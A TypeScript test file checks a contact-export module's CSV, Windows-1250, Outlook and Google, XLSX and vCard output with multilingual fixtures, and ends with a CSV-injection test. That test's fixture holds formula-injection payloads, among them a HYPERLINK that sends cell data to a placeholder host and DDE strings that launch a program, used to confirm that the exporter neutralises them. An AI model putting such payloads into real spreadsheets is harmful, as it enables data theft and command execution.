// Round trips for every export preset: write, parse back with an independent reader, compare.
import { once } from 'node:events';
import { PassThrough, Writable } from 'node:stream';
import { describe, expect, it } from 'vitest';
import Papa from 'papaparse';
import iconv from 'iconv-lite';
import ExcelJS from 'exceljs';
import ICAL from 'ical.js';
import type { ExportFormat } from '../../../../shared/types.ts';
import { EXPORT_FORMATS } from '../../../../shared/types.ts';
import type { Cell, ColumnSpec } from './index.ts';
import { EXPORT_FILE_TYPES, UnencodableError, wordSafeHeader, wordSafeHeaders, writeExport } from './index.ts';
import { foldLine } from './vcard.ts';
import { sheetNameFor } from './xlsx.ts';
import { isoDate } from './text.ts';
import { Base64Sink, Utf8Chunks, type Rows } from './sink.ts';

// ---- fixtures ------------------------------------------------------------------------------------

const COLUMNS: ColumnSpec[] = [
  { key: 'firmName', header: 'Firma', type: 'text' },
  { key: 'ico', header: 'IČO', type: 'id' },
  { key: 'titleBefore', header: 'Titul před', type: 'text' },
  { key: 'firstName', header: 'Jméno', type: 'text' },
  { key: 'lastName', header: 'Příjmení', type: 'text' },
  { key: 'titleAfter', header: 'Titul za', type: 'text' },
  { key: 'jobTitle', header: 'Funkce', type: 'text' },
  { key: 'email', header: 'E-mail', type: 'text' },
  { key: 'phone', header: 'Telefon', type: 'text' },
  { key: 'firmEmail', header: 'E-mail firmy', type: 'text' },
  { key: 'firmPhone', header: 'Telefon firmy', type: 'text' },
  { key: 'street', header: 'Ulice', type: 'text' },
  { key: 'city', header: 'Obec', type: 'text' },
  { key: 'postalCode', header: 'PSČ', type: 'text' },
  { key: 'country', header: 'Stát', type: 'text' },
  { key: 'website', header: 'Web', type: 'text' },
  { key: 'salutation', header: 'Oslovení', type: 'text' },
  { key: 'revenue12m', header: 'Obrat 12 m', type: 'number' },
  { key: 'lastContactAt', header: 'Poslední kontakt', type: 'date' },
];
const col = (key: string) => COLUMNS.findIndex((c) => c.key === key);

function row(values: Record<string, Cell>): Cell[] {
  return COLUMNS.map((c) => (c.key in values ? values[c.key] : null));
}

/** Values every Windows-1250 preset can hold: Czech, Hungarian, quotes, separators, line breaks, leading zeros. */
const LATIN_ROWS: Cell[][] = [
  row({
    firmName: 'Příliš žluťoučký kůň s.r.o.', ico: '00123456', titleBefore: 'Ing.', firstName: 'Jiří', lastName: 'Řezníček',
    titleAfter: 'Ph.D.', jobTitle: 'Ředitel; jednatel', email: 'jiri@kun.cz', phone: '602 123 456', firmEmail: 'info@kun.cz',
    firmPhone: '222 333 444', street: 'Úpěl 12\r\nDvůr "B"', city: 'Ďáblice', postalCode: '182 00', country: 'Česko',
    website: 'https://kun.cz', salutation: 'Vážený pane řediteli,', revenue12m: 1234.5, lastContactAt: new Date(2024, 0, 31),
  }),
  row({
    firmName: 'Kőszegi Űrhajó Kft.', ico: '01234567', firstName: 'Ödön', lastName: 'Szőlősi', jobTitle: 'Igazgató',
    email: 'odon@urhajo.hu', street: 'Fő utca 1. (műhely)', city: 'Győr', postalCode: '9021', country: 'Magyarország',
    salutation: 'Tisztelt Szőlősi Úr!', revenue12m: 0, lastContactAt: new Date(2023, 11, 1), website: 'www.urhajo.hu',
  }),
  row({
    firmName: 'Firma "Uvozovky"; středník, čárka', ico: '00000001', firstName: 'Anna', lastName: "O'Brien",
    jobTitle: 'Řádek 1\nŘádek 2', street: 'Na "Rohu";\n3. patro', city: 'Praha 1', revenue12m: 99.25, website: 'http://obrien.example/',
  }),
  row({ firmName: 'Firma bez lidí a.s.', ico: '45274649', firmEmail: 'firma@example.cz', firmPhone: '800 100 200', city: 'Brno' }),
];

/** Cyrillic: only the UTF-8 presets can hold it. */
const CYRILLIC_ROW: Cell[] = row({
  firmName: 'ООО «Ромашка»', ico: '00777001', firstName: 'Иван', lastName: 'Петрович', jobTitle: 'Генеральный директор',
  email: 'ivan@romashka.ru', street: 'ул. Ленина, 5', city: 'Москва', country: 'Россия', salutation: 'Уважаемый Иван Петрович!',
});

const UTF8_ROWS = [...LATIN_ROWS, CYRILLIC_ROW];

// ---- helpers -------------------------------------------------------------------------------------

interface Written { buf: Buffer; mime: string; extension: string; ended: boolean }

async function exportTo(
  format: ExportFormat, rows: Iterable<Cell[]> | AsyncIterable<Cell[]>, opts: { columns?: ColumnSpec[]; mergeNames?: boolean; locale?: 'cs' | 'en' | 'hu' | 'ru' } = {},
): Promise<Written> {
  const out = new PassThrough();
  const chunks: Buffer[] = [];
  let ended = false;
  out.on('data', (c: Buffer) => chunks.push(c));
  out.on('end', () => { ended = true; });
  const { mime, extension } = await writeExport({ format, columns: opts.columns ?? COLUMNS, rows, mergeNames: opts.mergeNames ?? false, locale: opts.locale }, out);
  await new Promise((resolve) => setImmediate(resolve));
  return { buf: Buffer.concat(chunks), mime, extension, ended };
}

function parseCsv(text: string, delimiter: string): string[][] {
  const res = Papa.parse<string[]>(text, { delimiter, newline: '\r\n', skipEmptyLines: true });
  expect(res.errors).toEqual([]);
  return res.data;
}

/** What a text preset must give back for a cell. */
function expectedText(cell: Cell, decimalComma: boolean): string {
  if (cell === null) return '';
  if (cell instanceof Date) return isoDate(cell);
  if (typeof cell === 'number') return decimalComma ? String(cell).replace('.', ',') : String(cell);
  if (typeof cell === 'object') return cell.text;
  return cell;
}

const BOM = Buffer.from([0xef, 0xbb, 0xbf]);

// ---- the plain CSV presets -----------------------------------------------------------------------

describe('CSV presets round trip', () => {
  const presets = [
    { format: 'excel-utf8' as const, delimiter: ';', bom: true, decimalComma: true },
    { format: 'csv' as const, delimiter: ',', bom: false, decimalComma: false },
  ];
  for (const p of presets) {
    it(`${p.format}: every value comes back unchanged (diacritics, ő/ű, Cyrillic, quotes, separators, line breaks, zeros)`, async () => {
      const w = await exportTo(p.format, UTF8_ROWS);
      expect(w.extension).toBe('csv');
      expect(w.mime).toContain('utf-8');
      expect(w.ended).toBe(true);
      expect(w.buf.subarray(0, 3).equals(BOM)).toBe(p.bom);
      const text = w.buf.toString('utf8').replace(/^\uFEFF/, '');
      // CRLF after every record; a bare LF only inside quoted values
      expect(text.endsWith('\r\n')).toBe(true);
      const data = parseCsv(text, p.delimiter);
      expect(data[0]).toEqual(COLUMNS.map((c) => c.header));
      expect(data.slice(1)).toEqual(UTF8_ROWS.map((r) => r.map((c) => expectedText(c, p.decimalComma))));
      expect(data[1][col('ico')]).toBe('00123456');
      expect(data[5][col('lastName')]).toBe('Петрович');
    });
  }

  it('csv quotes per RFC 4180: only values with , " CR LF, quotes doubled', async () => {
    const cols: ColumnSpec[] = [{ key: 'a', header: 'A', type: 'text' }, { key: 'b', header: 'B', type: 'text' }, { key: 'c', header: 'C', type: 'text' }];
    const w = await exportTo('csv', [['x, y', 'say "hi"', 'plain; semi'], ['line\nbreak', 'cr\rhere', '']], { columns: cols });
    expect(w.buf.toString('utf8')).toBe('A,B,C\r\n"x, y","say ""hi""",plain; semi\r\n"line\nbreak","cr\rhere",\r\n');
  });

  it('takes rows from an async iterable too', async () => {
    async function* rows() { for (const r of UTF8_ROWS) { await Promise.resolve(); yield r; } }
    const w = await exportTo('csv', rows());
    const data = parseCsv(w.buf.toString('utf8'), ',');
    expect(data).toHaveLength(UTF8_ROWS.length + 1);
    expect(data[2][col('city')]).toBe('Győr');
  });

  it('mail-merge names: Word-safe, unique headers in CSV', async () => {
    const cols: ColumnSpec[] = [
      { key: 'firmName', header: 'Název firmy', type: 'text' }, { key: 'ico', header: 'IČO', type: 'id' },
      { key: 'email', header: 'E-mail', type: 'text' }, { key: 'firmEmail', header: 'E-mail', type: 'text' },
      { key: 'postalCode', header: 'PSČ', type: 'text' }, { key: 'field:x', header: 'Имя', type: 'text' },
    ];
    const w = await exportTo('excel-utf8', [['a', '1', 'b', 'c', 'd', 'e']], { columns: cols, mergeNames: true });
    const data = parseCsv(w.buf.toString('utf8').replace(/^\uFEFF/, ''), ';');
    expect(data[0]).toEqual(['Nazev_firmy', 'ICO', 'E_mail', 'E_mail_2', 'PSC', 'Imya']);
  });
});

// ---- excel-cz: Windows-1250 ----------------------------------------------------------------------

describe('excel-cz (Windows-1250)', () => {
  it('round trips Czech and Hungarian text through iconv-lite + papaparse', async () => {
    const w = await exportTo('excel-cz', LATIN_ROWS);
    expect(w.mime).toBe('text/csv; charset=windows-1250');
    expect(w.ended).toBe(true);
    const text = iconv.decode(w.buf, 'win1250');
    const data = parseCsv(text, ';');
    expect(data[0]).toEqual(COLUMNS.map((c) => c.header));
    expect(data.slice(1)).toEqual(LATIN_ROWS.map((r) => r.map((c) => expectedText(c, true))));
    expect(data[1][col('revenue12m')]).toBe('1234,5');
  });

  it('writes ř as the byte 0xF8, no BOM, and the header line exactly', async () => {
    const w = await exportTo('excel-cz', LATIN_ROWS);
    const headerLine = `${COLUMNS.map((c) => c.header).join(';')}\r\n`;
    const expectedHeader = iconv.encode(headerLine, 'win1250');
    expect(w.buf.subarray(0, expectedHeader.length).equals(expectedHeader)).toBe(true);
    expect(w.buf[0]).toBe('F'.charCodeAt(0)); // no BOM
    // "IČO": Č is 0xC8 in Windows-1250
    expect([...w.buf.subarray(0, expectedHeader.length)]).toContain(0xc8);
    const one = await exportTo('excel-cz', [['ř']], { columns: [{ key: 'a', header: 'a', type: 'text' }] });
    expect([...one.buf]).toEqual([0x61, 0x0d, 0x0a, 0xf8, 0x0d, 0x0a]);
    // Hungarian ő and ű exist in Windows-1250 (0xF5, 0xFB): nothing became '?'
    expect(w.buf.includes(0x3f)).toBe(false);
    expect(w.buf.includes(0xf5)).toBe(true);
    expect(w.buf.includes(0xfb)).toBe(true);
    expect(w.buf.includes(0xdb)).toBe(true); // Ű
  });

  it('refuses Cyrillic with UnencodableError naming the rows, and writes nothing', async () => {
    const rows = [LATIN_ROWS[0], row({ lastName: 'Иван' }), LATIN_ROWS[1], LATIN_ROWS[2], row({ firmName: 'Emoji 😀 s.r.o.' })];
    const out = new PassThrough();
    let bytes = 0;
    out.on('data', (c: Buffer) => { bytes += c.length; });
    const err = await writeExport({ format: 'excel-cz', columns: COLUMNS, rows, mergeNames: false }, out).then(() => null, (e: unknown) => e);
    expect(err).toBeInstanceOf(UnencodableError);
    const u = err as UnencodableError;
    expect(u.rows).toEqual([2, 5]);
    expect(u.count).toBe(2);
    expect(u.chars).toEqual(['И', 'в', 'а', 'н', '😀']);
    expect(u.chars).not.toContain('ř');
    await new Promise((resolve) => setImmediate(resolve));
    expect(bytes).toBe(0);
    expect(out.writableEnded).toBe(false);
  });

  it('names at most 20 rows but counts them all', async () => {
    const rows = Array.from({ length: 50 }, (_, i) => row({ firmName: i % 2 ? 'Петров' : 'Novák' }));
    const err = (await exportTo('excel-cz', rows).then(() => null, (e: unknown) => e)) as UnencodableError;
    expect(err).toBeInstanceOf(UnencodableError);
    expect(err.rows).toEqual(Array.from({ length: 20 }, (_, i) => 2 * i + 2));
    expect(err.count).toBe(25);
  });

  it('a header the code page cannot hold (Russian UI) is written Word-safe instead of failing', async () => {
    const cols: ColumnSpec[] = [{ key: 'firmName', header: 'Название', type: 'text' }, { key: 'city', header: 'Город', type: 'text' }];
    const w = await exportTo('excel-cz', [['Kůň', 'Plzeň']], { columns: cols });
    expect(parseCsv(iconv.decode(w.buf, 'win1250'), ';')).toEqual([['Nazvanie', 'Gorod'], ['Kůň', 'Plzeň']]);
  });
});

// ---- Outlook and Google --------------------------------------------------------------------------

function parseWithHeader(buf: Buffer): Record<string, string>[] {
  const text = buf.toString('utf8').replace(/^\uFEFF/, '');
  const res = Papa.parse<Record<string, string>>(text, { header: true, newline: '\r\n', skipEmptyLines: true });
  expect(res.errors).toEqual([]);
  return res.data;
}

describe('Outlook and Google contacts CSV', () => {
  it('outlook: its own headers, UTF-8 with BOM, values mapped by column key', async () => {
    const w = await exportTo('outlook', UTF8_ROWS);
    expect(w.buf.subarray(0, 3).equals(BOM)).toBe(true);
    const recs = parseWithHeader(w.buf);
    expect(Object.keys(recs[0])).toEqual(expect.arrayContaining([
      'Title', 'First Name', 'Last Name', 'Suffix', 'Company', 'Job Title', 'E-mail Address', 'Business Phone',
      'Business Street', 'Business City', 'Business Postal Code', 'Business Country/Region',
    ]));
    expect(recs[0]).toMatchObject({
      Title: 'Ing.', 'First Name': 'Jiří', 'Last Name': 'Řezníček', Suffix: 'Ph.D.', Company: 'Příliš žluťoučký kůň s.r.o.',
      'Job Title': 'Ředitel; jednatel', 'E-mail Address': 'jiri@kun.cz', 'E-mail 2 Address': 'info@kun.cz',
      'Business Phone': '602 123 456', 'Company Main Phone': '222 333 444', 'Business Street': 'Úpěl 12\r\nDvůr "B"',
      'Business City': 'Ďáblice', 'Business Postal Code': '182 00', 'Business Country/Region': 'Česko', 'Web Page': 'https://kun.cz',
    });
    expect(recs[1]).toMatchObject({ 'Last Name': 'Szőlősi', Company: 'Kőszegi Űrhajó Kft.', 'Business City': 'Győr' });
    expect(recs[2]).toMatchObject({ Company: 'Firma "Uvozovky"; středník, čárka', 'Job Title': 'Řádek 1\nŘádek 2' });
    // a firm row: the firm's email is the contact's email
    expect(recs[3]).toMatchObject({ 'First Name': '', Company: 'Firma bez lidí a.s.', 'E-mail Address': 'firma@example.cz', 'E-mail 2 Address': '' });
    expect(recs[4]).toMatchObject({ 'First Name': 'Иван', 'Last Name': 'Петрович', Company: 'ООО «Ромашка»', 'Business City': 'Москва' });
  });

  it('google: the header names Google Contacts exports today, UTF-8 without BOM', async () => {
    const w = await exportTo('google', UTF8_ROWS);
    expect(w.buf.subarray(0, 3).equals(BOM)).toBe(false);
    const recs = parseWithHeader(w.buf);
    expect(Object.keys(recs[0])).toEqual([
      'First Name', 'Middle Name', 'Last Name', 'Name Prefix', 'Name Suffix', 'Organization Name', 'Organization Title',
      'E-mail 1 - Label', 'E-mail 1 - Value', 'E-mail 2 - Label', 'E-mail 2 - Value',
      'Phone 1 - Label', 'Phone 1 - Value', 'Phone 2 - Label', 'Phone 2 - Value',
      'Address 1 - Label', 'Address 1 - Street', 'Address 1 - City', 'Address 1 - Postal Code', 'Address 1 - Country',
      'Website 1 - Label', 'Website 1 - Value',
    ]);
    // none of the legacy names Google's import only maps as a fallback
    for (const legacy of ['Name', 'Given Name', 'Family Name', 'Organization 1 - Name', 'E-mail 1 - Type']) expect(recs[0]).not.toHaveProperty(legacy);
    expect(recs[0]).toMatchObject({
      'First Name': 'Jiří', 'Last Name': 'Řezníček', 'Name Prefix': 'Ing.', 'Name Suffix': 'Ph.D.',
      'Organization Name': 'Příliš žluťoučký kůň s.r.o.', 'Organization Title': 'Ředitel; jednatel',
      'E-mail 1 - Label': 'Work', 'E-mail 1 - Value': 'jiri@kun.cz', 'E-mail 2 - Value': 'info@kun.cz',
      'Phone 1 - Value': '602 123 456', 'Phone 2 - Value': '222 333 444',
      'Address 1 - Street': 'Úpěl 12\r\nDvůr "B"', 'Address 1 - City': 'Ďáblice', 'Address 1 - Postal Code': '182 00',
      'Address 1 - Country': 'Česko',
    });
    expect(recs[3]).toMatchObject({ 'Organization Name': 'Firma bez lidí a.s.', 'First Name': '', 'E-mail 1 - Value': 'firma@example.cz', 'Phone 1 - Value': '800 100 200' });
    expect(recs[4]).toMatchObject({ 'First Name': 'Иван', 'Last Name': 'Петрович', 'Organization Name': 'ООО «Ромашка»' });
  });

  it('the country column holds the country’s name in the export language, not its code', async () => {
    const cols: ColumnSpec[] = [{ key: 'firmName', header: 'F', type: 'text' }, { key: 'country', header: 'C', type: 'text' }];
    const rows: Cell[][] = [['A', 'CZ'], ['B', 'HU'], ['C', 'RU'], ['D', null]];
    const country = async (format: 'outlook' | 'google', locale: 'cs' | 'en' | 'hu' | 'ru') =>
      parseWithHeader((await exportTo(format, rows, { columns: cols, locale })).buf)
        .map((r) => r[format === 'outlook' ? 'Business Country/Region' : 'Address 1 - Country']);
    expect(await country('outlook', 'cs')).toEqual(['Česko', 'Maďarsko', 'Rusko', '']);
    expect(await country('outlook', 'en')).toEqual(['Czechia', 'Hungary', 'Russia', '']);
    expect(await country('google', 'hu')).toEqual(['Csehország', 'Magyarország', 'Oroszország', '']);
    expect(await country('google', 'ru')).toEqual(['Чехия', 'Венгрия', 'Россия', '']);
  });

  it('mergeNames does not change their fixed headers', async () => {
    const a = await exportTo('google', LATIN_ROWS, { mergeNames: true });
    const b = await exportTo('google', LATIN_ROWS, { mergeNames: false });
    expect(a.buf.equals(b.buf)).toBe(true);
  });
});

// ---- XLSX ----------------------------------------------------------------------------------------

async function readXlsx(buf: Buffer): Promise<ExcelJS.Worksheet> {
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.load(buf as unknown as ArrayBuffer);
  return wb.worksheets[0];
}

describe('XLSX', () => {
  it('an amount is a number in its currency’s format; the sheet is named after the selection, by Excel’s rules', async () => {
    const cols: ColumnSpec[] = [{ key: 'firmName', header: 'Firma', type: 'text' }, { key: 'revenue12m', header: 'Obrat', type: 'number' }];
    const rows: Cell[][] = [
      ['A', { money: 1234.5, currency: 'CZK', text: '1 234,50 Kč' }],
      ['B', { money: 99, currency: 'EUR', text: '99,00 €' }],
      ['C', { money: 15000, currency: 'HUF', text: '15 000 Ft' }],
      ['D', '100,00 Kč · 5,00 €'], // two currencies: one cell cannot be one number
    ];
    const out = new PassThrough();
    const chunks: Buffer[] = [];
    out.on('data', (c: Buffer) => chunks.push(c));
    await writeExport({ format: 'xlsx', columns: cols, rows, mergeNames: false, sheetName: 'Odběratelé: Praha/Brno [VIP] *nová* ? a ještě delší název' }, out);
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(Buffer.concat(chunks) as unknown as ArrayBuffer);
    const ws = wb.worksheets[0];
    expect(ws.name).toBe('Odběratelé Praha Brno VIP nová');
    expect(ws.name.length).toBeLessThanOrEqual(31);
    const cell = (r: number) => ws.getRow(r).getCell(2);
    expect([cell(2).type, cell(2).value, cell(2).numFmt]).toEqual([ExcelJS.ValueType.Number, 1234.5, '#,##0.00 "Kč"']);
    expect([cell(3).value, cell(3).numFmt]).toEqual([99, '#,##0.00 "€"']);
    expect([cell(4).value, cell(4).numFmt]).toEqual([15000, '#,##0.00 "Ft"']);
    expect([cell(5).type, cell(5).value]).toEqual([ExcelJS.ValueType.String, '100,00 Kč · 5,00 €']);
    // text formats write the amount as the export language does
    const csv = await exportTo('excel-utf8', rows, { columns: cols });
    expect(parseCsv(csv.buf.toString('utf8').replace(/^\uFEFF/, ''), ';')[1]).toEqual(['A', '1 234,50 Kč']);
  });

  it('sheet names: Excel’s forbidden characters, 31 characters, never empty or "History"', () => {
    expect(sheetNameFor('')).toBe('Export');
    expect(sheetNameFor(undefined)).toBe('Export');
    expect(sheetNameFor('[]:*?/\\')).toBe('Export');
    expect(sheetNameFor('History')).toBe('Export');
    expect(sheetNameFor("'Klienti'")).toBe('Klienti');
    expect(sheetNameFor('a'.repeat(40))).toHaveLength(31);
    expect(sheetNameFor('😀'.repeat(20))).toBe('😀'.repeat(15)); // 30 UTF-16 units: no half pair
  });

  it('round trips values with typed cells: text, IČO as text, numbers, real dates', async () => {
    const w = await exportTo('xlsx', UTF8_ROWS);
    expect(w.extension).toBe('xlsx');
    expect(w.mime).toBe('application/vnd.openxmlformats-officedocument.spreadsheetml.sheet');
    expect(w.ended).toBe(true);
    const ws = await readXlsx(w.buf);
    expect(ws.rowCount).toBe(UTF8_ROWS.length + 1);
    expect(COLUMNS.map((_, i) => ws.getRow(1).getCell(i + 1).value)).toEqual(COLUMNS.map((c) => c.header));
    UTF8_ROWS.forEach((r, ri) => {
      const xr = ws.getRow(ri + 2);
      COLUMNS.forEach((c, ci) => {
        const cell = xr.getCell(ci + 1);
        const v = r[ci];
        if (v === null) expect(cell.value ?? null).toBeNull();
        else if (v instanceof Date) {
          expect(cell.value).toBeInstanceOf(Date);
          // an Excel date is the wall-clock day
          const d = cell.value as Date;
          expect([d.getUTCFullYear(), d.getUTCMonth(), d.getUTCDate()]).toEqual([v.getFullYear(), v.getMonth(), v.getDate()]);
          expect(cell.numFmt).toBe('yyyy-mm-dd');
        } else if (typeof v === 'number') {
          expect(cell.type).toBe(ExcelJS.ValueType.Number);
          expect(cell.value).toBe(v);
        } else {
          expect(cell.type).toBe(ExcelJS.ValueType.String);
          expect(cell.value).toBe(String(v).replace(/\r\n/g, '\n')); // Excel keeps LF inside a cell
        }
      });
    });
    const ico = ws.getRow(2).getCell(col('ico') + 1);
    expect(ico.value).toBe('00123456');
    expect(ico.type).toBe(ExcelJS.ValueType.String);
    expect(ico.numFmt).toBe('@');
    expect(ws.getRow(4).getCell(col('jobTitle') + 1).value).toBe('Řádek 1\nŘádek 2');
    expect(ws.getRow(6).getCell(col('lastName') + 1).value).toBe('Петрович');
  });

  it('has a bold, frozen header with an autofilter over the data and sensible widths', async () => {
    const ws = await readXlsx((await exportTo('xlsx', UTF8_ROWS)).buf);
    expect(ws.getRow(1).getCell(1).font?.bold).toBe(true);
    expect(ws.views[0]).toMatchObject({ state: 'frozen', ySplit: 1 });
    expect(ws.autoFilter).toBe(`A1:S${UTF8_ROWS.length + 1}`);
    for (const c of ws.columns) expect(c.width).toBeGreaterThanOrEqual(8);
    for (const c of ws.columns) expect(c.width).toBeLessThanOrEqual(60);
    expect(ws.getColumn(col('firmName') + 1).width).toBeGreaterThan(ws.getColumn(col('ico') + 1).width!);
  });

  it('mail-merge names in the header row', async () => {
    const ws = await readXlsx((await exportTo('xlsx', LATIN_ROWS, { mergeNames: true })).buf);
    expect(ws.getRow(1).getCell(col('ico') + 1).value).toBe('ICO');
    expect(ws.getRow(1).getCell(col('lastName') + 1).value).toBe('Prijmeni');
    expect(ws.getRow(1).getCell(col('lastContactAt') + 1).value).toBe('Posledni_kontakt');
  });

  it('commits rows as they come: 100k rows stream out before the last one is produced', async () => {
    // Not a timing or heap test (the bench measures memory): the writer must have pushed most of
    // the file into the stream while the generator is only half way, i.e. rows are committed and
    // released instead of held until the end.
    const N = 100_000;
    let sunk = 0;
    let sunkAtHalf = -1;
    const sink = new Writable({ write(chunk: Buffer, _enc, cb) { sunk += chunk.length; cb(); } });
    const cols: ColumnSpec[] = [
      { key: 'firmName', header: 'Firma', type: 'text' }, { key: 'ico', header: 'IČO', type: 'id' },
      { key: 'revenue12m', header: 'Obrat', type: 'number' }, { key: 'createdAt', header: 'Založeno', type: 'date' },
    ];
    function* rows(): Generator<Cell[]> {
      for (let i = 0; i < N; i++) {
        if (i === N / 2) sunkAtHalf = sunk;
        yield [`Firma ${i} s.r.o.`, String(i).padStart(8, '0'), i, new Date(2020, 0, 1 + (i % 1000))];
      }
    }
    let finished = false;
    sink.on('finish', () => { finished = true; });
    await writeExport({ format: 'xlsx', columns: cols, rows: rows(), mergeNames: false }, sink);
    expect(finished).toBe(true);
    expect(sunkAtHalf).toBeGreaterThan(0.3 * sunk);
  }, 60_000);
});

// ---- vCard ---------------------------------------------------------------------------------------

function physicalLines(buf: Buffer): Buffer[] {
  const lines: Buffer[] = [];
  let start = 0;
  for (let i = 0; i < buf.length - 1; i++) {
    if (buf[i] === 0x0d && buf[i + 1] === 0x0a) { lines.push(buf.subarray(start, i)); start = i + 2; i++; }
  }
  expect(start).toBe(buf.length); // ends with CRLF
  return lines;
}

function cards(buf: Buffer): ICAL.Component[] {
  const parsed = ICAL.parse(buf.toString('utf8'));
  const list = (Array.isArray(parsed[0]) ? parsed : [parsed]) as unknown[];
  return list.map((j) => new ICAL.Component(j as never));
}

describe('vCard', () => {
  const LONG_JOB = 'Ředitel pro obchod a marketing; Příliš žluťoučký kůň úpěl ďábelské ódy, 😀 Kőszegi Űrhajó Иван';
  const rows = [...UTF8_ROWS.map((r, i) => (i === 0 ? r.map((c, ci) => (ci === col('jobTitle') ? LONG_JOB : c)) : r))];

  for (const format of ['vcard3', 'vcard4'] as const) {
    const version = format === 'vcard3' ? '3.0' : '4.0';
    it(`${format}: CRLF, lines ≤ 75 octets never splitting a character, and every value back through ical.js`, async () => {
      const w = await exportTo(format, rows);
      expect(w.extension).toBe('vcf');
      expect(w.mime).toBe('text/vcard; charset=utf-8');
      expect(w.buf.toString('utf8')).not.toMatch(/[^\r]\n/);
      const decoder = new TextDecoder('utf-8', { fatal: true });
      for (const l of physicalLines(w.buf)) {
        expect(l.length).toBeLessThanOrEqual(75);
        expect(() => decoder.decode(l)).not.toThrow();
      }
      const cs = cards(w.buf);
      expect(cs).toHaveLength(rows.length);
      cs.forEach((c) => expect(c.getFirstPropertyValue('version')).toBe(version));

      const [jiri, odon, anna, firm, ivan] = cs;
      expect(jiri.getFirstPropertyValue('fn')).toBe('Ing. Jiří Řezníček, Ph.D.');
      expect(jiri.getFirstPropertyValue('n')).toEqual(['Řezníček', 'Jiří', '', 'Ing.', 'Ph.D.']);
      expect(jiri.getFirstPropertyValue('org')).toBe('Příliš žluťoučký kůň s.r.o.');
      expect(jiri.getFirstPropertyValue('title')).toBe(LONG_JOB);
      expect(jiri.getAllProperties('email').map((p) => p.getFirstValue())).toEqual(['jiri@kun.cz', 'info@kun.cz']);
      expect(jiri.getAllProperties('tel').map((p) => p.getFirstValue())).toEqual(['602 123 456', '222 333 444']);
      expect(jiri.getFirstPropertyValue('adr')).toEqual(['', '', 'Úpěl 12\nDvůr "B"', 'Ďáblice', '', '182 00', 'Česko']);
      expect(jiri.getFirstPropertyValue('url')).toBe('https://kun.cz');
      // a web address as people type it gets its scheme: URL is a URI
      expect(odon.getFirstPropertyValue('url')).toBe('https://www.urhajo.hu');
      expect(anna.getFirstPropertyValue('url')).toBe('http://obrien.example/');

      expect(odon.getFirstPropertyValue('n')).toEqual(['Szőlősi', 'Ödön', '', '', '']);
      expect(odon.getFirstPropertyValue('org')).toBe('Kőszegi Űrhajó Kft.');
      expect(anna.getFirstPropertyValue('org')).toBe('Firma "Uvozovky"; středník, čárka');
      expect(anna.getFirstPropertyValue('title')).toBe('Řádek 1\nŘádek 2');
      expect(anna.getFirstPropertyValue('n')).toEqual(["O'Brien", 'Anna', '', '', '']);
      expect(anna.getFirstPropertyValue('adr')).toEqual(['', '', 'Na "Rohu";\n3. patro', 'Praha 1', '', '', '']);

      // a row without a person is the firm's own card
      expect(firm.getFirstPropertyValue('fn')).toBe('Firma bez lidí a.s.');
      expect(firm.getFirstPropertyValue('org')).toBe('Firma bez lidí a.s.');
      expect(firm.getFirstPropertyValue('email')).toBe('firma@example.cz');
      expect(firm.getFirstPropertyValue('tel')).toBe('800 100 200');
      if (version === '4.0') expect(firm.getFirstPropertyValue('kind')).toBe('org');
      else expect(firm.getFirstPropertyValue('n')).toEqual(['', '', '', '', '']);

      expect(ivan.getFirstPropertyValue('fn')).toBe('Иван Петрович');
      expect(ivan.getFirstPropertyValue('org')).toBe('ООО «Ромашка»');
      expect(ivan.getFirstPropertyValue('adr')).toEqual(['', '', 'ул. Ленина, 5', 'Москва', '', '', 'Россия']);
    });
  }

  it('vcard4 starts every card with BEGIN then VERSION; vcard3 needs no CHARSET', async () => {
    const v4 = (await exportTo('vcard4', LATIN_ROWS)).buf.toString('utf8');
    expect(v4.split('BEGIN:VCARD\r\n').slice(1).every((c) => c.startsWith('VERSION:4.0\r\n'))).toBe(true);
    const v3 = (await exportTo('vcard3', LATIN_ROWS)).buf.toString('utf8');
    expect(v3).not.toContain('CHARSET');
    expect(v3).toContain('N:Řezníček;Jiří;;Ing.;Ph.D.\r\n');
    expect(v3).toContain('ORG:Firma "Uvozovky"\\; středník\\, čárka\r\n');
  });

  it('folds at 75 octets on character boundaries', () => {
    for (const s of ['x'.repeat(200), 'ř'.repeat(100), `${'a'.repeat(74)}😀${'ž'.repeat(60)}`, 'short']) {
      const folded = foldLine(`NOTE:${s}`);
      const lines = folded.split('\r\n').slice(0, -1);
      for (const l of lines) expect(Buffer.byteLength(l)).toBeLessThanOrEqual(75);
      expect(lines.slice(1).every((l) => l.startsWith(' '))).toBe(true);
      expect(lines.map((l, i) => (i ? l.slice(1) : l)).join('')).toBe(`NOTE:${s}`);
    }
  });
});

// ---- formula neutralising ------------------------------------------------------------------------

describe('spreadsheet-formula safety (OWASP CSV injection)', () => {
  const cols: ColumnSpec[] = [
    { key: 'firmName', header: 'Firma', type: 'text' }, { key: 'lastName', header: 'Příjmení', type: 'text' },
    { key: 'email', header: 'E-mail', type: 'text' }, { key: 'city', header: 'Obec', type: 'text' },
    { key: 'street', header: 'Ulice', type: 'text' }, { key: 'jobTitle', header: 'Funkce', type: 'text' },
    { key: 'phone', header: 'Telefon', type: 'text' }, { key: 'revenue12m', header: 'Obrat', type: 'number' },
  ];
  const evil: Cell[] = ['=HYPERLINK("http://x.example/?"&A1,"klik")', '-2+3+cmd|\' /C calc\'!A0', '@SUM(1+1)*cmd|\'/C calc\'!A0', '+1+1', '\t=1+1', '\r=1+1', '+420 602 123 456', -5];
  const neutral = (v: Cell) => (typeof v === 'string' ? `'${v}` : v);

  for (const p of [
    { format: 'csv' as const, delimiter: ',', decode: (b: Buffer) => b.toString('utf8') },
    { format: 'excel-utf8' as const, delimiter: ';', decode: (b: Buffer) => b.toString('utf8').replace(/^\uFEFF/, '') },
    { format: 'excel-cz' as const, delimiter: ';', decode: (b: Buffer) => iconv.decode(b, 'win1250') },
  ]) {
    it(`${p.format}: a string a spreadsheet would run as a formula gets a leading ', phones and numbers stay as they are`, async () => {
      const w = await exportTo(p.format, [evil, ['Bezpečná firma', 'Novák', 'a@b.cz', 'Praha', 'Dlouhá 1', 'x', '602 123 456', 5]], { columns: cols });
      const data = parseCsv(p.decode(w.buf), p.delimiter);
      expect(data[1]).toEqual([...evil.slice(0, 6).map((v) => neutral(v)), '+420 602 123 456', '-5']);
      expect(data[2]).toEqual(['Bezpečná firma', 'Novák', 'a@b.cz', 'Praha', 'Dlouhá 1', 'x', '602 123 456', '5']);
    });

